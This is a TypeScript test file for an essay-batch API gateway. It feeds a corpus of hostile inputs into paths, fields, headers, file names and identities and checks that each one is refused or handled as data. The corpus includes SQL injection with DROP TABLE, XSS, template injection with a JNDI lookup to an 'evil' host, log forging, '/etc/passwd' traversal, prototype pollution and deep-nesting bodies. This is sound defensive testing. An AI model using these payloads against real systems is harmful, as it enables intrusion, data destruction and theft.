import { describe, expect, test } from 'bun:test'
import { z } from 'zod'
import { MAX_DEPTH } from '../../gateway/json-depth.ts'
import { createLogger } from '../../shared/telemetry/logger.ts'
import { gateway, statusOf } from './support.ts'

/** What attackers send, into every place that takes text. */

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE batches; --",
  '1; SELECT pg_sleep(10)',
  "admin'/*",
  '" UNION SELECT * FROM users --',
]
const SCRIPT = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<svg/onload=alert(1)>',
  "'-alert(1)-'",
  '</title><script>fetch(1)</script>',
]
const TEMPLATE = [
  '{{7*7}}',
  '$'.concat('{7*7}'),
  '<%= 7*7 %>',
  '#{7*7}',
  '$'.concat('{jndi:ldap://evil/a}'),
  '{{constructor.constructor("x")()}}',
]
const LOG = ['x\r\n{"level":"error","message":"forged"}', 'x\u001b[2J', 'x\u0000y', 'x\u2028y\u2029z', 'x\u0085y']
const OTHER = ['../../etc/passwd', '%00', '..%2f', 'a'.repeat(256), '\ud800', '💥', '‮evil']
const CORPUS = [...SQL, ...SCRIPT, ...TEMPLATE, ...LOG, ...OTHER]

const Problem = z.object({
  code: z.string(),
  reason: z.string().optional(),
  errors: z.array(z.object({ pointer: z.string(), detail: z.string() })).optional(),
})
const PATH = '/v1/batches/b-1/pipelines'

const expectHarmless = (answer: Response) => {
  expect(answer.status).toBeLessThan(500)
  expect(answer.headers.get('content-type')).toMatch(/^application\/(problem\+)?json/)
  expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
  expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'")
}

test.each(CORPUS)('as a batch id %p is looked up as it is, or refused', async (text) => {
  const asked: string[] = []
  const { call } = gateway({
    conductor: {
      async status(id) {
        asked.push(id)
        return undefined
      },
    },
  })
  const encoded = encodeURIComponent(text.toWellFormed())
  const answer = await call('GET', `/v1/batches/${encoded}/status`)
  expectHarmless(answer)
  expect([404, 422]).toContain(answer.status)
  if (answer.status === 404 && asked.length > 0) expect(asked).toEqual([text.toWellFormed()])
})

test.each(CORPUS)('as a pipeline %p is refused, and never shown again', async (text) => {
  const { call, published } = gateway()
  const answer = await call('POST', PATH, { requested_pipeline: text })
  expectHarmless(answer)
  expect(answer.status).toBe(422)
  expect(await answer.text()).not.toContain(JSON.stringify(text).slice(1, -1))
  expect(published).toEqual([])
})

test.each(CORPUS)('as a reason %p travels as data, or is refused', async (text) => {
  const { call, published } = gateway()
  const answer = await call('POST', PATH, { requested_pipeline: 'nlp', retry_reason: text })
  expectHarmless(answer)
  if (answer.status !== 202) {
    expect(answer.status).toBe(422)
    return
  }
  const sent: unknown = JSON.parse(String(published[0]?.value))
  expect(sent).toMatchObject({ data: { retry_reason: text.toWellFormed(), user_id: 'ada' } })
})

test.each(CORPUS)('as the name of a field %p is refused with a pointer that is JSON and no HTML', async (text) => {
  const answer = await gateway().call('POST', PATH, { requested_pipeline: 'nlp', [text]: 1 })
  expectHarmless(answer)
  expect(answer.status).toBe(422)
  expect(Problem.parse(await answer.json()).errors).toMatchObject([{ detail: 'unknown field' }])
})

test.each(CORPUS)('as values of a query %p is refused', async (text) => {
  const value = encodeURIComponent(text.toWellFormed())
  for (const name of ['status', 'cursor', 'of', 'limit']) {
    const answer = await gateway().call('GET', `/v1/batches?${name}=${value}`)
    expectHarmless(answer)
    expect([name, answer.status]).toEqual([name, 422])
  }
})

/** Others no client can send at all. */
const HEADERS = CORPUS.filter((text) => /^[ -~]+$/.test(text))
test.each(HEADERS)('in headers %p is replaced, refused or taken as an opaque text', async (text) => {
  const { call, published } = gateway()
  const headers = { 'x-correlation-id': text, traceparent: text, 'user-agent': text, 'idempotency-key': text }
  const answer = await call('POST', PATH, { requested_pipeline: 'nlp' }, headers)
  expectHarmless(answer)
  expect([202, 422]).toContain(answer.status)
  expect(answer.headers.get('x-correlation-id')).toMatch(/^[0-9a-f-]{36}$/)
  expect(published.map(({ value }) => String(value).includes(JSON.stringify(text).slice(1, -1)))).not.toContain(true)
})

test.each(CORPUS)('as who is signed in %p is a name like any other, or refused', async (text) => {
  const status = async (id: string) => statusOf(id, text)
  const { app, as, audit } = gateway({ conductor: { status } })
  const answer = await app.request('/v1/batches/b-1/status', { headers: await as({ userId: text, orgId: text }) })
  expectHarmless(answer)
  const isName = /^[ -~]{1,255}$/.test(text)
  expect([answer.status, audit.at(-1)?.user_id]).toEqual(isName ? [200, text] : [401, null])
})

test.each(CORPUS)('as the name of a file %p is kept as data or refused', async (text) => {
  const { app, as } = gateway()
  const body = new FormData()
  body.append('files', new File(['an essay'], `${text}.txt`))
  const answer = await app.request('/v1/batches/b-1/files', { method: 'POST', headers: await as(), body })
  expectHarmless(answer)
  expect([201, 400, 422]).toContain(answer.status)
})

test('control characters never reach a log line raw, whatever carries them', async () => {
  const lines: string[] = []
  const logger = createLogger({ service: 'gateway', level: 'info', write: (line) => void lines.push(line) })
  for (const text of LOG) logger.info({ user_agent: text, batch_id: text }, 'request')
  expect(lines.length).toBe(LOG.length)
  for (const line of lines) {
    expect([...line.trimEnd()].filter((character) => character < ' ')).toEqual([])
    expect(() => JSON.parse(line)).not.toThrow()
  }
})

describe('JSON that is not what it seems', () => {
  const send = (body: string) => gateway().call('POST', PATH, body)

  test.each(['__proto__', 'constructor', 'prototype'])('%s is a field like any other: unknown', async (name) => {
    const answer = await send(`{"requested_pipeline":"nlp","${name}":{"is_retry":true,"isAdmin":true}}`)
    expect(answer.status).toBe(422)
    expect(Reflect.get({}, 'isAdmin')).toBeUndefined()
  })

  test('as the key of a free map it sets nothing, and goes no further', async () => {
    const { call, published } = gateway()
    const body = `{"requested_pipeline":"nlp","prompt_payload":{"cms_prompt_ref":{"references":{"__proto__":{"isAdmin":"true"}}}}}`
    const answer = await call('POST', PATH, body)
    expectHarmless(answer)
    expect(Reflect.get({}, 'isAdmin')).toBeUndefined()
    expect(answer.status).toBe(202)
    expect(String(published[0]?.value)).toContain('"references":{}')
  })

  test('of a key that stands twice the last counts, for the check and for what is sent', async () => {
    const { call, published } = gateway()
    await call('POST', PATH, '{"requested_pipeline":"grammar","requested_pipeline":"nlp"}')
    expect(JSON.parse(String(published[0]?.value))).toMatchObject({ data: { requested_pipeline: 'nlp' } })
    const answer = await send('{"requested_pipeline":"nlp","requested_pipeline":"grammar"}')
    expect(answer.status).toBe(422)
  })

  test.each([
    ['deep arrays', '['.repeat(20_000) + ']'.repeat(20_000)],
    ['deep objects', `${'{"a":'.repeat(8_000)}1${'}'.repeat(8_000)}`],
    [
      'deep within a field',
      `{"requested_pipeline":"nlp","prompt_payload":${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}}`,
    ],
  ])('%s are refused without harm, with a pointer to where they become too deep', async (_, body) => {
    const answer = await send(body)
    expectHarmless(answer)
    expect(answer.status).toBe(422)
    const { reason, errors } = Problem.parse(await answer.json())
    expect([reason, errors?.length]).toEqual(['too_deep', 1])
    expect(errors?.[0]?.pointer.split('/')).toHaveLength(MAX_DEPTH + 1)
  })

  test('nesting within its limit is left to the schema, and brackets in texts are no nesting', async () => {
    const deep = (n: number) => `{"requested_pipeline":"nlp","a/b":[1,${'['.repeat(n)}${']'.repeat(n)}]}`
    const pointers = async (body: string) => Problem.parse(await (await send(body)).json()).errors
    expect(await pointers(deep(MAX_DEPTH - 2))).toEqual([{ pointer: '/a~1b', detail: 'unknown field' }])
    const place = `/a~1b/1${'/0'.repeat(MAX_DEPTH - 2)}`
    expect(await pointers(deep(MAX_DEPTH - 1))).toMatchObject([{ pointer: place }])
    const text = JSON.stringify(`\\"${'[{'.repeat(100)}`)
    expect((await send(`{"requested_pipeline":"nlp","retry_reason":${text}}`)).status).toBe(202)
  })

  test.each([
    '',
    '{',
    'null',
    '[]',
    '"nlp"',
    '1e999',
    '{"requested_pipeline":}',
    '\ufeff{}',
    '{"a":1}{"b":2}',
    'NaN',
    '\u0000',
  ])('the body %p is a problem', async (body) => {
    const { app, as } = gateway()
    const headers = { ...(await as()), 'content-type': 'application/json' }
    const answer = await app.request(PATH, { method: 'POST', headers, body })
    expectHarmless(answer)
    expect([400, 422]).toContain(answer.status)
  })

  test('too long a body is refused by its size, told or not', async () => {
    const { call, app, as } = gateway()
    const long = JSON.stringify({ requested_pipeline: 'nlp', retry_reason: 'x'.repeat(60_000) })
    expect((await call('POST', PATH, long)).status).toBe(413)
    const stream = new Blob([long]).stream()
    const headers = { ...(await as()), 'content-type': 'application/json' }
    const chunked = await app.request(PATH, { method: 'POST', headers, body: stream })
    expect(chunked.status).toBe(413)
  })
})

test('all that is wrong is told at once', async () => {
  const body = { expected_essay_count: 0, course_code: 'X', essay_ids: [''], cj_default_temperature: 3, surprise: 1 }
  const answer = await gateway().call('POST', '/v1/batches/register', body)
  const { errors = [] } = Problem.parse(await answer.json())
  expect(errors.map(({ pointer }) => pointer).sort()).toEqual([
    '/cj_default_temperature',
    '/course_code',
    '/essay_ids/0',
    '/expected_essay_count',
    '/surprise',
  ])
})
